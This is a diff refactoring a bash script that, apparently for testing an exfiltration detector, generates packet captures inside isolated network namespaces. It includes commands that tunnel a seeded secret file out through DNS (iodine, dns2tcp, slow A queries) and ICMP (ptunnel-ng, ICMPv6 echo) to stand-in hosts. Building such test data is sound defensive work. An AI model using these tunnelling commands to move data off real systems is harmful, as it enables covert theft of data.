@@ -12,7 +12,8 @@
 # SAFETY: all traffic stays between two network namespaces created here
 # (exfcov-in 10.77.9.2 / fd77:9::2  <-veth->  exfcov-out 10.77.9.1 / fd77:9::1), neither with
 # a default route; tunnels (iodine's dns0) get 10.77.10.0/27 inside the same namespaces.
-# Everything started here is killed and both namespaces are deleted on EXIT.
+# Everything started here is killed and both namespaces are deleted on EXIT. The steps the
+# capture scripts share (namespaces, processes, users, tcpdump) are in pcaps/lib.sh.
 #
 # Users: exfil-cov runs the tunnels, exfil-web the benign traffic (created when missing).
 # Gotchas learnt the hard way:
@@ -28,147 +29,71 @@
 set -euo pipefail
 
 HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
-REPO="$(cd "$HERE/.." && pwd)"
-OUT="$HERE/covert"
-PY=/usr/bin/python3
 NS_IN=exfcov-in
 NS_OUT=exfcov-out
+# shellcheck source=lib.sh
+. "$HERE/lib.sh"
+OUT="$HERE/covert"
 TUNNELER=exfil-cov
 BROWSER=exfil-web
 SCENARIOS=(benign slow-dns iodine iodine-raw dns2tcp ptunnel icmp6-exfil)
 
-log() { printf '[covert.sh] %s\n' "$*" >&2; }
-
-TMP=""
-PIDS=()
-
-stop_all() {
-	local p
-	for p in "${PIDS[@]:-}"; do
-		[ -n "$p" ] && kill "$p" 2>/dev/null || true
-	done
-	for p in "${PIDS[@]:-}"; do
-		[ -n "$p" ] && wait "$p" 2>/dev/null || true
-	done
-	PIDS=()
-	# Daemons that fork write pid files.
-	if [ -n "$TMP" ]; then
-		for f in "$TMP"/*.pid; do
-			[ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true
-			rm -f "$f"
-		done
-	fi
-}
+SERVERS=() # a scenario's servers, stopped when its capture ends
 
 cleanup() {
-	stop_all
-	ip netns del "$NS_IN" 2>/dev/null || true
-	ip netns del "$NS_OUT" 2>/dev/null || true
+	stop_pids SERVERS
+	stop_pids PIDS
+	netns_del "$NS_IN" "$NS_OUT"
 	rm -rf "/etc/netns/$NS_IN"
 	[ -n "$TMP" ] && rm -rf "$TMP"
 	return 0
 }
 
-ensure_user() {
-	id "$1" >/dev/null 2>&1 || useradd -m -s /bin/bash "$1"
-}
-
-wait_port() { # ns proto port
-	local i
-	for i in $(seq 1 100); do
-		if ip netns exec "$1" ss -Hln"$2" "sport = :$3" | grep -q .; then return 0; fi
-		sleep 0.1
-	done
-	log "nothing listening on $2/$3 in $1"
-	return 1
-}
-
 setup() {
-	[ "$(id -u)" = 0 ] || { log "needs root (network namespaces, nft, tcpdump)"; exit 1; }
+	need_root "network namespaces, nft, tcpdump"
 	cleanup
 	TMP="$(mktemp -d /tmp/exfilmon-covert.XXXXXX)"
 	chmod 755 "$TMP"
-	ip netns add "$NS_IN"
-	ip netns add "$NS_OUT"
-	ip link add exfcov-veth-in netns "$NS_IN" type veth peer name exfcov-veth-out netns "$NS_OUT"
-	ip -n "$NS_IN" link set lo up
-	ip -n "$NS_OUT" link set lo up
-	ip -n "$NS_IN" addr add 10.77.9.2/24 dev exfcov-veth-in
-	ip -n "$NS_OUT" addr add 10.77.9.1/24 dev exfcov-veth-out
-	ip -n "$NS_IN" addr add fd77:9::2/64 dev exfcov-veth-in nodad
-	ip -n "$NS_OUT" addr add fd77:9::1/64 dev exfcov-veth-out nodad
-	ip -n "$NS_IN" link set exfcov-veth-in up
-	ip -n "$NS_OUT" link set exfcov-veth-out up
-	if ip -n "$NS_IN" route show default | grep -q . || ip -n "$NS_IN" -6 route show default | grep -q .; then
-		log "unexpected default route in $NS_IN"
-		exit 1
-	fi
-	ip netns exec "$NS_IN" sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
+	netns_pair "$NS_IN" "$NS_OUT" exfcov-veth-in exfcov-veth-out 10.77.9.2/24 10.77.9.1/24 fd77:9::2/64 fd77:9::1/64
+	inside sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
 	# `ip netns exec` bind-mounts this over /etc/resolv.conf: glibc in exfcov-in asks 10.77.9.1.
 	mkdir -p "/etc/netns/$NS_IN"
 	echo "nameserver 10.77.9.1" >"/etc/netns/$NS_IN/resolv.conf"
-	ensure_user "$TUNNELER"
-	ensure_user "$BROWSER"
+	ensure_user "$TUNNELER" "$BROWSER"
 	# A sink for tunnelled TCP, in the server namespace.
-	ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr,fork' OPEN:/dev/null &
-	PIDS+=($!)
-	ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=10.77.10.1,reuseaddr,fork,ip-freebind' OPEN:/dev/null &
-	PIDS+=($!)
+	spawn ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr,fork' OPEN:/dev/null
+	spawn ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=10.77.10.1,reuseaddr,fork,ip-freebind' OPEN:/dev/null
 	# Neighbour discovery before the capture starts keeps the files tidy.
-	ip netns exec "$NS_IN" "$PY" "$HERE/ping.py" -c 1 10.77.9.1
-	ip netns exec "$NS_IN" "$PY" "$HERE/ping.py" -c 1 fd77:9::1
-	ip netns exec "$NS_IN" nft -f "$REPO/nft/exfilmon.nft"
+	inside "$PY" "$HERE/ping.py" -c 1 10.77.9.1
+	inside "$PY" "$HERE/ping.py" -c 1 fd77:9::1
+	inside nft -f "$REPO/nft/exfilmon.nft"
 	mkdir -p "$OUT"
 }
 
-TCPDUMP=""
-capture_start() {
-	ip netns exec "$NS_IN" tcpdump -i nflog:7 -U -Z root -w "$TMP/cap.pcap" 2>"$TMP/tcpdump.log" &
-	TCPDUMP=$!
-	local i
-	for i in $(seq 1 50); do
-		grep -q 'listening on' "$TMP/tcpdump.log" 2>/dev/null && break
-		sleep 0.1
-	done
+record() {
+	capture_start "$TMP/cap.pcap"
 	sleep 0.3
 }
 
-capture_stop() { # name
+save() { # name: ends the capture as $OUT/name.pcap and stops the scenario's servers
 	sleep 1.5
-	kill -INT "$TCPDUMP"
-	wait "$TCPDUMP" || true
-	TCPDUMP=""
-	stop_all_servers
+	capture_stop
+	stop_pids SERVERS
+	sleep 0.3
 	mv "$TMP/cap.pcap" "$OUT/$1.pcap"
 	chmod 644 "$OUT/$1.pcap"
 	log "$1.pcap: $(stat -c %s "$OUT/$1.pcap") bytes"
 }
 
-SERVERS=()
 server() { # command... (runs in exfcov-out)
 	ip netns exec "$NS_OUT" "$@" &
-	SERVERS+=($!)
-}
-stop_all_servers() {
-	local p
-	for p in "${SERVERS[@]:-}"; do
-		[ -n "$p" ] && kill "$p" 2>/dev/null || true
-	done
-	for p in "${SERVERS[@]:-}"; do
-		[ -n "$p" ] && wait "$p" 2>/dev/null || true
-	done
-	SERVERS=()
-	for f in "$TMP"/*.pid; do
-		[ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true
-		rm -f "$f"
-	done
-	sleep 0.3
+	SERVERS+=("$!")
 }
 
 # Sends the secret as exfil-cov over TCP and waits until the far end has read all of it (the
 # sink closes after EOF), so the tunnel is not stopped with data still queued.
 send_through() { # address port
-	AS "$TUNNELER" "$PY" -c '
+	as_user "$TUNNELER" "$PY" -c '
 import socket, sys
 s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=120)
 s.sendall(open(sys.argv[1], "rb").read())
@@ -180,9 +105,6 @@ except socket.timeout:
     print("no close from the far end within 30 s", file=sys.stderr)
 s.close()' "$TMP/secret" "$1" "$2" || log "tunnelled send to $1:$2 failed"
 }
-
-IN() { ip netns exec "$NS_IN" "$@"; }
-AS() { local u="$1"; shift; ip netns exec "$NS_IN" runuser -u "$u" -- "$@"; }
 
 resolver() { # dnsmasq answering every name, as an ordinary resolver would
 	server dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
@@ -198,24 +120,24 @@ secret() { # bytes -> file readable by the tunneller (seeded, reproducible)
 
 scenario_benign() {
 	resolver
-	capture_start
+	record
 	log "benign: ordinary lookups, CDN and telemetry names, a browser burst, reverse lookups, pings"
-	AS "$BROWSER" "$PY" "$HERE/covert_benign.py"
-	AS "$BROWSER" dig +short +tries=1 +time=2 @10.77.9.1 www.example.test A >/dev/null
-	AS "$BROWSER" dig +short +tcp +tries=1 +time=2 @10.77.9.1 _dmarc.example.test TXT >/dev/null
-	AS "$BROWSER" getent ahosts mirror.example.test >/dev/null || true
-	IN "$PY" "$HERE/ping.py" -c 3 10.77.9.1
-	IN "$PY" "$HERE/ping.py" -c 3 fd77:9::1
-	capture_stop benign
+	as_user "$BROWSER" "$PY" "$HERE/covert_benign.py"
+	as_user "$BROWSER" dig +short +tries=1 +time=2 @10.77.9.1 www.example.test A >/dev/null
+	as_user "$BROWSER" dig +short +tcp +tries=1 +time=2 @10.77.9.1 _dmarc.example.test TXT >/dev/null
+	as_user "$BROWSER" getent ahosts mirror.example.test >/dev/null || true
+	inside "$PY" "$HERE/ping.py" -c 3 10.77.9.1
+	inside "$PY" "$HERE/ping.py" -c 3 fd77:9::1
+	save benign
 }
 
 scenario_slow_dns() {
 	resolver
 	secret 1200
-	capture_start
+	record
 	log "slow-dns: hand-written exfiltration, one A query every ~0.7 s"
-	AS "$TUNNELER" "$PY" "$HERE/covert_slow_dns.py" "$TMP/secret" 10.77.9.1 sync.cdn-metrics.test
-	capture_stop slow-dns
+	as_user "$TUNNELER" "$PY" "$HERE/covert_slow_dns.py" "$TMP/secret" 10.77.9.1 sync.cdn-metrics.test
+	save slow-dns
 }
 
 iodined_start() {
@@ -225,34 +147,29 @@ iodined_start() {
 
 iodine_run() { # extra iodine flags...
 	secret 16384
-	capture_start
+	record
 	# Root first (tun device), then exfil-cov; -f foreground, killed below.
-	IN iodine -f -P covertpass -u "$TUNNELER" "$@" 10.77.9.1 t.tun.test >"$TMP/iodine.log" 2>&1 &
+	spawn ip netns exec "$NS_IN" iodine -f -P covertpass -u "$TUNNELER" "$@" 10.77.9.1 t.tun.test >"$TMP/iodine.log" 2>&1
 	local pid=$!
-	local i
-	for i in $(seq 1 100); do
-		grep -q 'Connection setup complete' "$TMP/iodine.log" && break
-		sleep 0.2
-	done
+	wait_grep "$TMP/iodine.log" 'Connection setup complete' 20 || true
 	cat "$TMP/iodine.log" >&2
 	send_through 10.77.10.1 9000
 	sleep 2
-	kill "$pid" 2>/dev/null || true
-	wait "$pid" 2>/dev/null || true
+	stop_pid "$pid"
 }
 
 scenario_iodine() {
 	iodined_start
 	log "iodine: DNS mode (-r), 16 KiB through the tunnel"
 	iodine_run -r
-	capture_stop iodine
+	save iodine
 }
 
 scenario_iodine_raw() {
 	iodined_start
 	log "iodine-raw: raw UDP mode to port 53 after the DNS handshake"
 	iodine_run
-	capture_stop iodine-raw
+	save iodine-raw
 }
 
 scenario_dns2tcp() {
@@ -267,38 +184,37 @@ scenario_dns2tcp() {
 	server dns2tcpd -F -f "$TMP/dns2tcpd.conf"
 	wait_port "$NS_OUT" u 53
 	secret 16384
-	capture_start
+	record
 	log "dns2tcp: TXT queries, 16 KiB through the tunnel"
-	AS "$TUNNELER" dns2tcpc -z d2t.tun.test -r sink -l 2222 10.77.9.1 >"$TMP/dns2tcpc.log" 2>&1 &
+	spawn ip netns exec "$NS_IN" runuser -u "$TUNNELER" -- dns2tcpc -z d2t.tun.test -r sink -l 2222 10.77.9.1 \
+		>"$TMP/dns2tcpc.log" 2>&1
 	local pid=$!
 	wait_port "$NS_IN" t 2222
 	send_through 127.0.0.1 2222
-	kill "$pid" 2>/dev/null || true
-	wait "$pid" 2>/dev/null || true
-	capture_stop dns2tcp
+	stop_pid "$pid"
+	save dns2tcp
 }
 
 scenario_ptunnel() {
 	server ptunnel-ng -r127.0.0.1 -R9000 -v 1
 	sleep 2   # no port to wait for: the proxy only opens a raw socket
 	secret 32768
-	capture_start
+	record
 	log "ptunnel: ptunnel-ng over ICMP echo, 32 KiB through the tunnel"
-	IN ptunnel-ng -p10.77.9.1 -l2222 -r127.0.0.1 -R9000 -u"$TUNNELER" -v 1 >"$TMP/ptunnel.log" 2>&1 &
+	spawn ip netns exec "$NS_IN" ptunnel-ng -p10.77.9.1 -l2222 -r127.0.0.1 -R9000 -u"$TUNNELER" -v 1 >"$TMP/ptunnel.log" 2>&1
 	local pid=$!
 	wait_port "$NS_IN" t 2222
 	send_through 127.0.0.1 2222
-	kill "$pid" 2>/dev/null || true
-	wait "$pid" 2>/dev/null || true
-	capture_stop ptunnel
+	stop_pid "$pid"
+	save ptunnel
 }
 
 scenario_icmp6_exfil() {
 	secret 16384
-	capture_start
+	record
 	log "icmp6-exfil: a file in ICMPv6 echo payloads, unprivileged ping socket"
-	AS "$TUNNELER" "$PY" "$HERE/covert_icmp_exfil.py" "$TMP/secret" fd77:9::1
-	capture_stop icmp6-exfil
+	as_user "$TUNNELER" "$PY" "$HERE/covert_icmp_exfil.py" "$TMP/secret" fd77:9::1
+	save icmp6-exfil
 }
 
 users_json() {
@@ -309,8 +225,7 @@ users_json() {
 	EOF
 }
 
-trap cleanup EXIT
-trap 'exit 130' INT TERM
+cleanup_on_exit cleanup
 WHAT=("${@:-${SCENARIOS[@]}}")
 setup
 users_json
